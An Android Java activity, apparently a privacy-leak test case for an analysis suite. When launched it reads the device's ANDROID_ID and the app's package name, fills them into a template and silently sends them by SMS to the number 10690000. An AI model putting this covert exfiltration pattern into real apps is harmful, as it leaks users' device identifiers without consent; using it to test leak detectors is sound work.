package cn.privlens.suite.template_filled;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.util.HashMap;
import java.util.Map;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, String> values = new HashMap<>();
        values.put("app", getPackageName());
        values.put("id", Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID));
        SmsManager.getDefault().sendTextMessage("10690000", null, Template.fill("a={app}&i={id}", values), null, null);
    }
}
